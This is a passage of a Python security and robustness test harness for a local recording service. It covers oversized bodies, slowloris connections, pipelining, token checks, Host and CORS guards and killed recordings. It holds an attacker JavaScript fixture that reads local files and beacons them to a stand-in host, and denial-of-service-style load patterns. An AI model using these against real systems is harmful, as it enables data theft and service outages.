            o.problem(f"the cloud's RSS grew by {grew} MiB")
        o.notes.append(f"answered in {resp.elapsed:.2f} s, {sent[0] >> 20} MiB sent, "
                       f"RSS +{grew} MiB")

    def head(fx, extra):
        token = b"".join(b"%s: %s\r\n" % (k.encode(), v.encode()) for k, v in fx.headers())
        return (b"POST /edu/apps/a/v2/rooms/big-" + fx.room().encode() + b" HTTP/1.1\r\n"
                b"Host: 127.0.0.1:%d\r\nContent-Type: application/json\r\n" % fx.port
                + token + extra + b"\r\n")

    chunk = b"[" * (1 << 20)
    specs.append(("Content-Length 10 GB, no body sent", lambda fx, o: refuse_unread(
        fx, o, head(fx, b"Content-Length: 10737418240\r\n"), {413})))
    specs.append(("Content-Length 10 GB, 200 MB streamed", lambda fx, o: refuse_unread(
        fx, o, head(fx, b"Content-Length: 10737418240\r\n"), {413}, lambda: chunk)))
    specs.append(("chunked body without end", lambda fx, o: refuse_unread(
        fx, o, head(fx, b"Transfer-Encoding: chunked\r\n"), {413},
        lambda: b"100000\r\n" + chunk + b"\r\n")))
    specs.append(("Content-Length 65537", lambda fx, o: refuse_unread(
        fx, o, head(fx, b"Content-Length: 65537\r\n") + b"x" * 65537, {413})))
    specs.append(("Expect: 100-continue with 1 GB", lambda fx, o: refuse_unread(
        fx, o, head(fx, b"Content-Length: 1073741824\r\nExpect: 100-continue\r\n"), {413})))
    return specs


def crowd_specs(probe):
    """(name, fn): many connections at once."""
    specs = []

    def concurrent(fx, o, method, body):
        results = [None] * 200
        threads = []

        def one(i):
            results[i] = http_call(fx.port, build_request(
                method, f"/edu/apps/a/v2/rooms/crowd-{i}" + ("/records" if method == "GET"
                                                              else ""), body, fx.headers()), 30)
        start = time.monotonic()
        for i in range(200):
            t = threading.Thread(target=one, args=(i,), daemon=True)
            t.start()
            threads.append(t)
        for t in threads:
            t.join(60)
        bad = []
        for r in results:
            sub = Outcome("", "")
            if r is None:
                bad.append("no result")
                continue
            check_envelope(sub, r, fx)
            if sub.problems:
                bad.append(sub.problems[0])
        if bad:
            o.problem(f"{len(bad)} of 200 calls failed, e.g. {bad[0]}")
        o.notes.append(f"200 calls in {time.monotonic() - start:.1f} s")

    specs.append(("200 concurrent GET records", lambda fx, o: concurrent(fx, o, "GET", b"")))
    specs.append(("200 concurrent POST room",
                  lambda fx, o: concurrent(fx, o, "POST", b'{"roomName":"c","roomType":4}')))

    def fds(pid):
        try:
            return len(os.listdir(f"/proc/{pid}/fd"))
        except OSError:
            return 0

    def crowd(fx, o, n, trickle):
        before = fds(fx.proc.pid)
        socks = []
        for i in range(n):
            try:
                s = socket.create_connection(("127.0.0.1", fx.port), timeout=5)
                if trickle:
                    s.sendall(with_port(b"GET /edu/apps/a/v2/rooms/slow/records HTTP/1.1\r\n"
                                        b"Host: 127.0.0.1\r\n", fx.port))
                socks.append(s)
            except OSError as e:
                o.notes.append(f"connection {i}: {e}")
                break
        slow = []
        for second in range(8):
            if trickle:
                for s in socks:
                    try:
                        s.sendall(b"X-Slow: %d\r\n" % second)
                    except OSError:
                        pass
            resp = http_call(fx.port, build_request("GET", "/edu/apps/a/v2/rooms/r/records",
                                                    b"", fx.headers()), 10)
            check_envelope(o, resp, fx)
            if resp.elapsed > 3 * probe.scale:
                slow.append(resp.elapsed)
            time.sleep(1)
        for s in socks:
            s.close()
        if slow:
            o.problem(f"{len(slow)} of 8 calls took over 3 s (up to {max(slow):.1f} s) while "
                      f"{len(socks)} connections were held")
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and fds(fx.proc.pid) > before + 20:
            time.sleep(0.5)
        after = fds(fx.proc.pid)
        if after > before + 20:
            o.problem(f"file descriptors {before} before, {after} after the connections closed")
        o.notes.append(f"{len(socks)} connections held; fds {before} -> {after}")

    specs.append(("slowloris: 200 connections trickling headers",
                  lambda fx, o: crowd(fx, o, 200, True)))
    specs.append(("500 idle connections", lambda fx, o: crowd(fx, o, 500, False)))

    def pipelined(fx, o):
        token = b"".join(b"%s: %s\r\n" % (k.encode(), v.encode()) for k, v in fx.headers())
        one = with_port(b"GET /edu/apps/a/v2/rooms/pipe/records HTTP/1.1\r\nHost: 127.0.0.1\r\n",
                        fx.port) + token + b"\r\n"
        last = one[:-2] + b"Connection: close\r\n\r\n"
        sock = socket.create_connection(("127.0.0.1", fx.port), timeout=20)
        data = b""
        try:
            sock.sendall(one * 999 + last)
            while True:
                chunk = sock.recv(1 << 16)
                if not chunk:
                    break
                data += chunk
        except OSError as e:
            o.notes.append(f"pipelining: {e}")
        finally:
            sock.close()
        statuses = re.findall(rb"HTTP/1\.1 (\d{3}) ", data)
        if len(statuses) != 1000:
            o.problem(f"{len(statuses)} answers to 1000 pipelined requests")
        if any(int(s) >= 500 for s in statuses):
            o.problem("a 5xx among the pipelined answers")

    specs.append(("1000 pipelined requests", pipelined))
    return specs


def auth_specs(probe):
    specs = []
    token_fx_path = "/edu/apps/a/v2/rooms/auth-r"

    def call(fx, o, method, path, headers, want=None, no_2xx=False, allow_empty=False,
             allow_no_answer=False):
        resp = http_call(fx.port, build_request(method, path, b"{}", headers), 15)
        check_envelope(o, resp, fx, want=want, no_2xx=no_2xx, allow_empty=allow_empty,
                       allow_no_answer=allow_no_answer)

    for label, suffix, method in (("room", "", "POST"), ("start", "/records/states/1", "PUT"),
                                  ("update", "/records/states/1", "PATCH"),
                                  ("stop", "/records/states/0", "PUT"),
                                  ("ready", "/records/ready", "PUT"),
                                  ("records", "/records", "GET"),
                                  ("sequences", "/sequences", "GET")):
        specs.append((f"{method} {label} without the token",
                      lambda fx, o, m=method, s=suffix: call(fx, o, m, token_fx_path + s, [],
                                                             want={401})))
    bad_headers = {
        "a wrong token": [("x-agora-token", "wrong")],
        "the token in upper case": [("x-agora-token", "UPPER")],
        "an empty token": [("x-agora-token", "")],
        "Authorization: agora token=wrong": [("Authorization", "agora token=wrong")],
        "Authorization: Bearer TOKEN": [("Authorization", "Bearer TOKEN")],
        "a 100 KB token": [("x-agora-token", "t" * 100000)],
        "a token of invalid UTF-8": [("x-agora-token", "\udcff\udcfe")],
        "the token as a query parameter": [],
    }
    for label, headers in bad_headers.items():
        def fn(fx, o, headers=headers, label=label):
            hs = [(k, v.replace("TOKEN", fx.token).replace("UPPER", fx.token.upper())
                   .encode("utf-8", "surrogateescape")) for k, v in headers]
            path = token_fx_path + "/records"
            if "query" in label:
                path += "?x-agora-token=" + urllib.parse.quote(fx.token)
            call(fx, o, "GET", path, hs, want={401}, allow_no_answer="100 KB" in label)
        specs.append((f"GET records with {label}", fn))
    specs.append(("GET records with Authorization: agora token=TOKEN",
                  lambda fx, o: call(fx, o, "GET", token_fx_path + "/records",
                                     [("Authorization", f"agora token={fx.token}")],
                                     want={200, 404})))
    specs.append(("OPTIONS preflight without the token",
                  lambda fx, o: call(fx, o, "OPTIONS", token_fx_path + "/records",
                                     [("Origin", "http://x"),
                                      ("Access-Control-Request-Method", "PUT")],
                                     allow_empty=True)))

    def big_without_token(fx, o):
        sock = socket.create_connection(("127.0.0.1", fx.port), timeout=15)
        try:
            sock.sendall(b"POST " + token_fx_path.encode() + b" HTTP/1.1\r\n"
                         b"Host: 127.0.0.1:%d\r\nContent-Type: application/json\r\n" % fx.port +
                         b"Content-Length: 1073741824\r\n\r\n")
            resp = read_response(sock, deadline=time.monotonic() + 10)
        finally:
            sock.close()
        check_envelope(o, resp, fx, want={401, 413})
        if resp.elapsed > 3 * probe.scale:
            o.problem(f"answered after {resp.elapsed:.1f} s")
    specs.append(("1 GB body without the token", big_without_token))
    return specs


HARMLESS = ("<!DOCTYPE html>\n<html><head><title>harmless</title></head>"
            "<body>harmless</body></html>\n")
EVIL_JS = """(function () {
  var site = %(site)s;
  function send (path, text) {
    var query = '?d=' + encodeURIComponent (String (text).slice (0, 2000))
                + '&at=' + encodeURIComponent (String (location.href).slice (0, 300));
    try { new Image ().src = site + path + query; } catch (e) {}
    try { fetch (site + path + query, { mode: 'no-cors' }); } catch (e) {}
  }
  send ('/beacon', 'the attacker script ran');
  %(files)s.forEach (function (url) {
    try {
      var xhr = new XMLHttpRequest ();
      xhr.open ('GET', url, false);
      xhr.send ();
      send (xhr.responseText ? '/exfil' : '/beacon', url + ' ' + xhr.responseText);
    } catch (e) {
      send ('/beacon', url + ' refused: ' + e);
    }
  });
}) ();
"""


def canary(probe):
    """A file the probe planted (path, text): its text must never reach the attacker."""
    path = probe.workdir / "canary.txt"
    with probe.lock:
        if not path.exists():
            path.write_text("probe-canary-" + os.urandom(8).hex() + "\n")
    return path, path.read_text().strip()


def attacker_site(probe):
    """The site on 127.0.0.2 shared by the cases: a harmless page, the bundled record page
    and its SDK stand-in over http, and the attacker's script, which beacons to the site
    when it runs and sends it what it can read of /etc/hostname and the canary."""
    path, _ = canary(probe)
    with probe.lock:
        if probe.site is None:
            site = Site()
            site.add("/harmless.html", HARMLESS)
            for file in sorted((ROOT / "page").rglob("*")):
                if file.is_file():
                    ctype = "text/html; charset=utf-8" if file.suffix == ".html" \
                        else "text/javascript"
                    site.add("/page/" + file.relative_to(ROOT / "page").as_posix(),
                             file.read_bytes(), ctype)
            evil = EVIL_JS % {"site": json.dumps(site.url),
                              "files": json.dumps(["file:///etc/hostname", path.as_uri()])}
            site.add("/evil.js", evil, "text/javascript")
            (probe.workdir / "evil-file.js").write_text(evil)
            probe.write_page("harmless", HARMLESS)
            probe.write_page("file-reader", f"<!DOCTYPE html>\n<title>reader</title>\n"
                             f"<script>\n{evil}</script>\n")
            probe.site = site
        return probe.site


def start_body(url, key="rootUrl"):
    return json.dumps({"mode": "web", "webRecordConfig": {key: url, "videoWidth": 1280,
                                                          "videoHeight": 720}}).encode()


def refused_start(fx, o, url, headers=(), want=None, json_type=True, host=None, key="rootUrl"):
    """A start that must be refused: answered @want, and no recording in the room."""
    path = f"/edu/apps/a/v2/rooms/{fx.room()}"
    data = build_request("PUT", path + "/records/states/1", start_body(url, key),
                         fx.headers() + list(headers), json_type=json_type)
    if host is not None:
        data = data.replace(b"\r\nHost: 127.0.0.1\r\n", b"\r\nHost: " + host + b"\r\n", 1)
    resp = http_call(fx.port, data, 15)
    check_envelope(o, resp, fx, want=want, no_2xx=True)
    started = fx.records(path)
    if started:
        o.problem(f"a recording started: {len(started)} in the room's list")
        fx.stop_rooms([path])
    return resp


def no_cors(o, resp):
    for name in ("access-control-allow-origin", "access-control-allow-credentials",
                 "access-control-allow-private-network"):
        if name in resp.headers:
            o.problem(f"answered with {name}: {resp.headers[name]}")


def guard_specs(probe):
    """(name, fn(fx, o)): the layers between a web page and the recording API (Host,
    Origin and CORS, JSON bodies, file pages) and what answers show."""
    specs = []
    foreign = [("Origin", "http://evil.test")]

    def add(name, fn):
        specs.append((name, fn))

    def site_page():
        return attacker_site(probe).url + "/harmless.html"

    def room_path(fx):
        return f"/edu/apps/a/v2/rooms/{fx.room()}"

    def call(fx, o, method, path, body=b"", headers=(), host=None, json_type=True, **expect):
        data = build_request(method, path, body, fx.headers() + list(headers),
                             json_type=json_type)
        if host is not None:
            data = data.replace(b"\r\nHost: 127.0.0.1\r\n",
                                b"\r\nHost: " + host.encode() + b"\r\n", 1)
        resp = http_call(fx.port, data, 15)
        check_envelope(o, resp, fx, **expect)
        return resp

    for host in ("evil.test:{port}", "evil.test", "127.0.0.1.evil.test:{port}",
                 "localhost.evil.test:{port}", "127.0.0.2:{port}", "0.0.0.0:{port}",
                 "[::2]:{port}"):
        add(f"Host {host.format(port='PORT')}: refused", lambda fx, o, host=host: call(
            fx, o, "GET", room_path(fx) + "/records", host=host.format(port=fx.port),
            want={421, 403}))
    for host in ("127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}"):
        add(f"Host {host.format(port='PORT')}: answered", lambda fx, o, host=host: call(
            fx, o, "GET", room_path(fx) + "/records", host=host.format(port=fx.port),
            want={200, 404}))
    add("Host evil.test on a start (JSON, no Origin, an http page): refused, nothing started",
        lambda fx, o: refused_start(fx, o, site_page(), want={421, 403},
                                    host=b"evil.test:%d" % fx.port))

    def big_bad_host(fx, o):
        sock = socket.create_connection(("127.0.0.1", fx.port), timeout=15)
        try:
            sock.sendall(b"POST " + room_path(fx).encode() + b" HTTP/1.1\r\n"
                         b"Host: evil.test:%d\r\nContent-Type: application/json\r\n"
                         b"Content-Length: 1073741824\r\n" % fx.port
                         + b"".join(b"%s: %s\r\n" % (k.encode(), v.encode())
                                    for k, v in fx.headers()) + b"\r\n")
            resp = read_response(sock, deadline=time.monotonic() + 10)
        finally:
            sock.close()
        check_envelope(o, resp, fx, want={421, 403})
        if resp.elapsed > 3 * probe.scale:
            o.problem(f"answered after {resp.elapsed:.1f} s: the body was read?")
    add("Host evil.test with a 1 GB body: refused on its headers", big_bad_host)

    endpoints = [("POST room", "POST", "", b'{"roomName":"n","roomType":4}'),
                 ("PUT start", "PUT", "/records/states/1", None),
                 ("PATCH update", "PATCH", "/records/states/1",
                  b'{"webRecordConfig":{"onHold":false}}'),
                 ("PUT stop", "PUT", "/records/states/0", b""),
                 ("GET records", "GET", "/records", b""),
                 ("GET sequences", "GET", "/sequences?nextId=0", b""),
                 ("GET health", "GET", None, b"")]
    for label, method, suffix, body in endpoints:
        for origin in ("http://evil.test", "null"):
            if origin == "null" and label not in ("PUT start", "GET records"):
                continue

            def fn(fx, o, method=method, suffix=suffix, body=body, origin=origin):
                headers = [("Origin", origin)]
                if body is None:
                    resp = refused_start(fx, o, site_page(), headers, want={403})
                else:
                    path = "/health" if suffix is None else room_path(fx) + suffix
                    resp = call(fx, o, method, path, body, headers, want={403})
                no_cors(o, resp)
            add(f"{label} with Origin: {origin}: 403, no CORS headers", fn)
    for label, path in (("GET records", "/edu/apps/a/v2/rooms/r/records"),
                        ("GET health", "/health")):
        add(f"{label} without Origin: no CORS headers",
            lambda fx, o, path=path: no_cors(o, call(fx, o, "GET", path, want={200, 404})))
    add("GET records with the cloud's own Origin: answered",
        lambda fx, o: call(fx, o, "GET", room_path(fx) + "/records",
                           headers=[("Origin", f"http://127.0.0.1:{fx.port}")],
                           want={200, 404}))

    def cors_kept(fx, o, method, path, body=b"", extra=()):
        resp = call(fx, o, method, path, body, foreign + list(extra), allow_empty=True)
        if resp.status == 403 or "access-control-allow-origin" not in resp.headers:
            o.problem(f"HTTP {resp.status} without Access-Control-Allow-Origin: the SDK's "
                      f"calls from a page's origin fail")
    add("GET configs (the SDK's API) from a foreign origin: CORS kept",
        lambda fx, o: cors_kept(fx, o, "GET", "/edu/apps/a/v2/configs"))
    add("OPTIONS configs (the SDK's API) from a foreign origin: CORS kept",
        lambda fx, o: cors_kept(fx, o, "OPTIONS", "/edu/apps/a/v2/configs",
                                extra=[("Access-Control-Request-Method", "GET")]))
    add("PUT ready from a foreign origin: CORS kept",
        lambda fx, o: cors_kept(fx, o, "PUT", room_path(fx) + "/records/ready", b"{}"))
    for label, suffix, method in (("start", "/records/states/1", "PUT"),
                                  ("records", "/records", "GET")):
        for pna in (False, True):
            extra = [("Access-Control-Request-Method", method),
                     ("Access-Control-Request-Headers", "content-type")]
            if pna:
                extra.append(("Access-Control-Request-Private-Network", "true"))

            def preflight(fx, o, suffix=suffix, extra=extra):
                no_cors(o, call(fx, o, "OPTIONS", room_path(fx) + suffix, b"",
                                foreign + extra, allow_empty=True))
            add(f"OPTIONS {label} from a foreign origin"
                f"{' (Private Network Access)' if pna else ''}: refused", preflight)

    room_json = b'{"roomName":"n","roomType":4}'
    for ctype in ("text/plain", "text/plain;charset=UTF-8",
                  "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                  None):
        headers = [("Content-Type", ctype)] if ctype else []
        add(f"POST room as {ctype or 'no Content-Type'}: 415",
            lambda fx, o, headers=headers: call(
                fx, o, "POST", room_path(fx), room_json, headers, json_type=False,
                want={415}))
    add("PUT start as text/plain (an http page): 415, nothing started",
        lambda fx, o: refused_start(fx, o, site_page(), [("Content-Type", "text/plain")],
                                    want={415}))
    add("PUT start without a Content-Type (an http page): 415, nothing started",
        lambda fx, o: refused_start(fx, o, site_page(), want={415}, json_type=False))
    add("PATCH update as text/plain: 415",
        lambda fx, o: call(fx, o, "PATCH", room_path(fx) + "/records/states/1",
                           b'{"webRecordConfig":{"onHold":false}}',
                           [("Content-Type", "text/plain")], want={415}))
    add("POST room as application/json; charset=utf-8: answered",
        lambda fx, o: call(fx, o, "POST", room_path(fx), room_json,
                           [("Content-Type", "application/json; charset=utf-8")],
                           want={200, 409}))

    def file_url(form):
        attacker_site(probe)  # writes the page
        path = str(probe.pages / "harmless.html")
        return {"file:///": "file://" + path, "FILE:///": "FILE://" + path,
                "file:/": "file:" + path, "file://localhost/": "file://localhost" + path}[form]
    for form in ("file:///", "FILE:///", "file:/", "file://localhost/"):
        add(f"PUT start of a {form} page: 400, nothing started",
            lambda fx, o, form=form: refused_start(fx, o, file_url(form), want={400}))
    add("PUT start of a file:/// page as url: 400, nothing started",
        lambda fx, o: refused_start(fx, o, file_url("file:///"), want={400}, key="url"))

    def no_paths(fx, o):
        path = room_path(fx)
        resp = call(fx, o, "PUT", path + "/records/states/1", start_body(site_page()),
                    want={200})
        answers = []
        try:
            time.sleep(3 * probe.scale)
            answers.append(call(fx, o, "GET", path + "/records"))
            answers.append(call(fx, o, "GET", path + "/sequences?nextId=0"))
        finally:
            answers.append(call(fx, o, "PUT", path + "/records/states/0"))
        answers.append(call(fx, o, "GET", path + "/records"))
        for resp in [resp] + answers:
            text = urllib.parse.unquote(resp.body.decode("utf-8", "replace"))
            for disk in {str(probe.workdir), str(probe.workdir.resolve()),
                         str(fx.data_dir)}:
                if disk in text:
                    at = text.index(disk)
                    o.problem(f"an answer without the token shows a path of the cloud's disk: "
                              f"{text[max(0, at - 20):at + 80]!r}")
                    return
    add("a recording's answers without the token hold no path of the cloud's disk", no_paths)
    return specs


def token_specs(probe):
    """(name, fn(fx, o)) for clouds whose token comes from the environment or a file."""
    def call(fx, o, headers, want):
        resp = http_call(fx.port, build_request("GET", "/edu/apps/a/v2/rooms/r/records", b"",
                                                headers), 15)
        check_envelope(o, resp, fx, want=want)
    return [("GET records without the token: 401", lambda fx, o: call(fx, o, [], {401})),
            ("GET records with the token: answered",
             lambda fx, o: call(fx, o, fx.headers(), {200, 404}))]


def cloud_api_cases(probe):
    open_fx = CloudFixture(probe, "api")
    token_fx = CloudFixture(probe, "api-token", token="probe-cloud-token-4f9a")
    token_file = probe.workdir / "cloud-token"
    token_file.write_text("probe-file-token-8c1e\n")
    env_fx = CloudFixture(probe, "api-env-token", token="probe-env-token-27d0",
                          env={"RECORDHOST_CLOUD_TOKEN": "probe-env-token-27d0"})
    file_fx = CloudFixture(probe, "api-token-file", token="probe-file-token-8c1e",
                           extra=[f"--token-file={token_file}"])
    host_fx = CloudFixture(probe, "api-allowed-host", extra=["--allowed-host=probe.test"])
    cases = []

    def wrap(fx, label, fn, name):
        def case():
            o = Outcome("cloud-api", name)
            o.repro = probe.rerun(name) + "   # against: " + fx.argv_hint()
            if not fx.ensure():
                o.problem(fx.error)
                return [o]
            if not check_alive(o, fx):
                return [o]
            try:
                fn(fx, o)
            except Exception as e:  # a probe error must not end the run
                o.problem(f"probe error: {type(e).__name__}: {e}")
            check_alive(o, fx)
            return [o]
        return case

    specs = api_specs(probe)
    for i, (label, fn) in enumerate(specs):
        name = f"cloud-api/{label}"
        cases.append(Case("cloud-api", name, wrap(open_fx, label, fn, name), quick=i % 5 == 0))
    for i, (label, fn) in enumerate(specs[::3]):
        name = f"cloud-api/with token: {label}"
        cases.append(Case("cloud-api", name, wrap(token_fx, label, fn, name),
                          quick=i % 10 == 0))
    for label, fn in auth_specs(probe):
        name = f"cloud-api/with token: {label}"
        cases.append(Case("cloud-api", name, wrap(token_fx, label, fn, name), quick=True))
    for i, (label, fn) in enumerate(guard_specs(probe)):
        name = f"cloud-api/{label}"
        cases.append(Case("cloud-api", name, wrap(open_fx, label, fn, name), quick=i % 3 == 0))
    for fx, how in ((env_fx, "RECORDHOST_CLOUD_TOKEN"), (file_fx, "--token-file")):
        for label, fn in token_specs(probe):
            name = f"cloud-api/token from {how}: {label}"
            cases.append(Case("cloud-api", name, wrap(fx, label, fn, name), quick=True))
    for host, want in (("probe.test", {200, 404}), ("other.test", {421, 403})):
        def allowed(fx, o, host=host, want=want):
            data = build_request("GET", "/edu/apps/a/v2/rooms/r/records").replace(
                b"Host: 127.0.0.1", b"Host: %s:%d" % (host.encode(), fx.port))
            check_envelope(o, http_call(fx.port, data, 15), fx, want=want)
        name = (f"cloud-api/--allowed-host probe.test: Host {host} "
                f"{'answered' if host == 'probe.test' else 'refused'}")
        cases.append(Case("cloud-api", name, wrap(host_fx, host, allowed, name), quick=True))
    for i, (label, fn) in enumerate(big_body_specs(probe)):
        for fx in (open_fx, token_fx):
            prefix = "with token: " if fx.token else ""
            name = f"cloud-api/{prefix}{label}"
            case = Case("cloud-api", name, wrap(fx, label, fn, name), quick=not fx.token)
            case.alone = True
            cases.append(case)
    for label, fn in crowd_specs(probe):
        name = f"cloud-api/{label}"
        case = Case("cloud-api", name, wrap(open_fx, label, fn, name),
                    quick=label.startswith("200 concurrent GET") or "slowloris" in label)
        case.alone = True
        cases.append(case)

    def second_cloud():
        name = "cloud-api/a second cloud on the same --data-dir"
        o = Outcome("cloud-api", name)
        if not open_fx.ensure():
            o.problem(open_fx.error)
            return [o]
        proc = probe.proc(["cloud", "--listen=127.0.0.1:0", f"--data-dir={open_fx.data_dir}"],
                          name="cloud-second")
        exited = proc.wait(15 * probe.scale)
        url = None if exited else proc.first_line(0.1)
        run = proc.finish(0)
        o.repro = probe.command(run) + "   # while another cloud uses that directory"
        if url:
            o.problem(f"started beside the first one, listening on {url} (killed)")
            return [o]
        run.timed_out = not exited
        rc = judge(o, run, bound=15)
        expect_status(o, rc, {1})
        if rc == 1:
            expect_one_line(o, run, "recordhost cloud:")
        if not run.timed_out and run.elapsed > 3 * probe.scale:
            o.problem(f"took {run.elapsed:.1f} s to give up")
        return [o]

    case = Case("cloud-api", "cloud-api/a second cloud on the same --data-dir", second_cloud,
                quick=True)
    case.alone = True
    cases.append(case)

    for fx in (open_fx, token_fx, env_fx, file_fx, host_fx):
        def stop(fx=fx):
            name = f"cloud-api/{fx.label}: alive at the end, SIGTERM exits 0"
            o = Outcome("cloud-api", name)
            o.repro = fx.argv_hint() + "   # then the cases above, then kill -TERM"
            if fx.proc is None and fx not in (open_fx, token_fx):
                return []  # none of its cases ran
            if fx.error is not None or (fx.proc is None and not fx.ensure()):
                o.problem(fx.error)
                return [o]
            if not check_alive(o, fx):
                run = fx.proc.finish(0)
                judge(o, run)
                return [o]
            resp = http_call(fx.port, build_request("GET", "/edu/apps/a/v2/rooms/r/records", b"",
                                                    fx.headers()), 10)
            check_envelope(o, resp, fx)
            fx.proc.signal(signal.SIGTERM)
            run = fx.proc.finish(20 * probe.scale)
            rc = judge(o, run, bound=20)
            expect_status(o, rc, {0})
            lines = [x for x in stderr_before_report(run).split(b"\n")
                     if x.decode("utf-8", "replace") not in STDERR_NOISE]
            check_printable(o, b"\n".join(lines), "the cloud's stderr")
            o.notes.append(f"peak RSS {run.hwm_kib // 1024} MiB")
            return [o]
        case = Case("cloud-api", f"cloud-api/{fx.label}: alive at the end, SIGTERM exits 0",
                    stop, quick=True)
        case.last = True
        cases.append(case)
    return cases


# ---------------------------------------------------------------------------------------
# 5. killed recordings


GRACEFUL = {signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT}


def hls_duration(playlist):
    """Seconds of video in an HLS recording: its segments, one by one (ffprobe would
    wait for more of a playlist without #EXT-X-ENDLIST, as for a live stream)."""
    folder = Path(playlist).parent
    try:
        text = Path(playlist).read_text(errors="replace")
    except OSError:
        text = None
    if text is not None:
        segments = [folder / line.strip() for line in text.splitlines()
                    if line.strip() and not line.startswith("#")]
    else:
        segments = sorted(folder.glob("*.ts"))
    if not segments:
        return None, "no playlist and no segment" if text is None else "no segment listed"
    total, bad = 0.0, []
    for segment in segments:
        duration, why = ffprobe_duration(segment)
        if duration is None:
            bad.append(f"{segment.name}: {why}")
        else:
            total += duration
    notes = []
    if text is None:
        notes.append("no playlist")
    elif "#EXT-X-ENDLIST" not in text:
        notes.append("playlist without #EXT-X-ENDLIST")
    if bad:
        notes.append("; ".join(bad[:2]))
    return (total if total > 0 else None), f"{len(segments)} segment(s)" + \
        "".join(", " + n for n in notes)


def ffprobe_duration(path):
    """Seconds of video ffprobe finds in @path, or None with why."""
    if str(path).endswith(".m3u8"):
        return hls_duration(path)
    if not shutil.which("ffprobe"):
        return None, "ffprobe not installed"
    try:
        size = os.path.getsize(path)
    except OSError:
        return None, "no file"
    if size == 0:
        return None, "empty file"
    try:
        out = subprocess.run(["ffprobe", "-v", "error", "-show_entries", "format=duration",
                              "-of", "json", str(path)], capture_output=True, timeout=30)
    except subprocess.TimeoutExpired:
        return None, "ffprobe did not finish"
    try:
        info = json.loads(out.stdout or b"{}")
    except ValueError:
        info = {}
    duration = info.get("format", {}).get("duration")
    if out.returncode != 0 or duration in (None, "N/A"):
        why = out.stderr.decode("utf-8", "replace").strip().splitlines()
        return None, f"unplayable ({size} bytes): {why[-1] if why else 'no duration'}"
    return float(duration), f"{size} bytes"


def state_events(path):
    events = []
    try:
        with open(path, "rb") as f:
            for line in f:
                try:
                    events.append(json.loads(line))
                except ValueError:
                    events.append({"unparsable": line[:80].decode("utf-8", "replace")})
    except OSError:
        pass
    return events


def check_recording(o, path, recorded_s, what="the file"):
    duration, why = ffprobe_duration(path)
    if duration is None:
        o.lost.append(f"{what} {Path(path).name}: {why} after {recorded_s:.1f} s of recording")
    elif duration < recorded_s - 3:
        o.lost.append(f"{what} {Path(path).name} plays {duration:.1f} s, "
                      f"{recorded_s:.1f} s were recorded")
    else:
        o.notes.append(f"{Path(path).name}: {duration:.1f} s of {recorded_s:.1f} s ({why})")
    return duration


def make_run_kill_case(probe, sig, after_s, hls, name):
    def case():
        o = Outcome("killed-recordings", name)
        stem = probe.tmpname("killed")
        record = f"{stem}.mp4" if not hls else f"{stem}-hls/rec.m3u8"
        if hls:
            Path(record).parent.mkdir(parents=True, exist_ok=True)
        state_log = f"{stem}.state"
        argv = ["run", probe.page, "--app-id=a", "--room-uuid=r", "--room-type=4",
                f"--record={record}", f"--state-log={state_log}", "-q"]
        proc = probe.proc(argv, name="killed")
        started = None
        deadline = time.monotonic() + 30 * probe.scale
        while time.monotonic() < deadline and proc.alive():
            events = [e for e in state_events(state_log) if e.get("data", {}).get("reason") == 1]
            if events:
                started = events[0]["data"].get("ts", 0) / 1000
                break
            time.sleep(0.1)
        if started is None:
            run = proc.finish(0)
            o.repro = probe.command(run)
            judge(o, run)
            o.lost.append("no reason-1 state event within 30 s: the recording never started")
            return [o]
        # From the process start: @after_s, as an operator would stop it.
        proc.wait(max(0.0, proc.started + after_s * probe.scale - time.monotonic()))
        signalled = time.time()
        proc.signal(sig)
        bound = 20 if sig in GRACEFUL else 10
        exited = proc.wait(bound * probe.scale)
        run = proc.finish(0)
        repro = probe.command(run)
        o.repro = f"{repro} & sleep {after_s}; kill -{sig.name[3:]} $!"
        if not exited:
            run.timed_out = True
        rc = judge(o, run, sent=sig, bound=bound)
        recorded = max(0.0, signalled - started)
        if sig in GRACEFUL:
            expect_status(o, rc, {0})
            if run.rc is not None and run.rc == -sig:
                o.problem(f"died of {sig.name} instead of stopping normally")
            reasons = [e.get("data", {}).get("reason") for e in state_events(state_log)]
            if 2 not in reasons:
                o.lost.append(f"no reason-2 state event (reasons: {reasons})")
        duration = check_recording(o, record, recorded)
        if hls and sig in GRACEFUL and rc == 0 and duration is not None:
            try:
                ended = "#EXT-X-ENDLIST" in Path(record).read_text(errors="replace")
            except OSError:
                ended = False
            if not ended:
                o.problem("a normally stopped HLS recording without a finished playlist "
                          "(#EXT-X-ENDLIST)")
        return [o]
    return case


def cloud_kill_job(probe, sig, after_s, names):
    def case():
        outcomes = [Outcome("killed-recordings", n) for n in names]
        data_dir = Path(probe.tmpname("cloud-killed") + ".data")
        data_dir.mkdir(parents=True)
        argv = ["cloud", "--listen=127.0.0.1:0", f"--data-dir={data_dir}"]
        if probe.cloud_knows("allow-file-pages"):
            argv.append("--allow-file-pages")
        proc = probe.proc(argv, name="cloud-killed")
        hint = probe.command(argv)
        for o in outcomes:
            o.repro = (f"{hint} & # then start 2 rooms recording with rootUrl "
                       f"{probe.page.as_uri()}, wait {after_s} s, kill -{sig.name[3:]}; "
                       f"or: {probe.rerun(o.name)}")
        url = proc.first_line(30 * probe.scale)
        if not url:
            run = proc.finish(0)
            for o in outcomes:
                judge(o, run)
                o.problem("the cloud did not start")
            return outcomes
        port = int(url.rstrip("/").rsplit(":", 1)[1])
        rooms = [f"killed-{i}" for i in range(len(names))]
        config = {"mode": "web", "webRecordConfig": {"rootUrl": probe.page.as_uri(),
                                                     "videoWidth": 1280, "videoHeight": 720},
                  "retryTimeout": 60}
        for room in rooms:
            path = f"/edu/apps/a/v2/rooms/{room}"
            api(port, "POST", path, {"roomName": room, "roomType": 4})
            resp = api(port, "PUT", path + "/records/states/1", config)
            if resp.status != 200:
                outcomes[rooms.index(room)].problem(
                    f"start answered {resp.status}: {resp.body[:120]!r}")
        started = {}
        deadline = time.monotonic() + 40 * probe.scale
        while time.monotonic() < deadline and len(started) < len(rooms) and proc.alive():
            for room in rooms:
                if room in started:
                    continue
                resp = api(port, "GET", f"/edu/apps/a/v2/rooms/{room}/sequences?nextId=0&cmd=1001")
                try:
                    items = json.loads(resp.body)["data"]["list"]
                except (ValueError, KeyError, TypeError):
                    items = []
                for item in items:
                    if item.get("data", {}).get("reason") in (1, 3):
                        started[room] = item["data"].get("ts", 0) / 1000
            time.sleep(0.2)
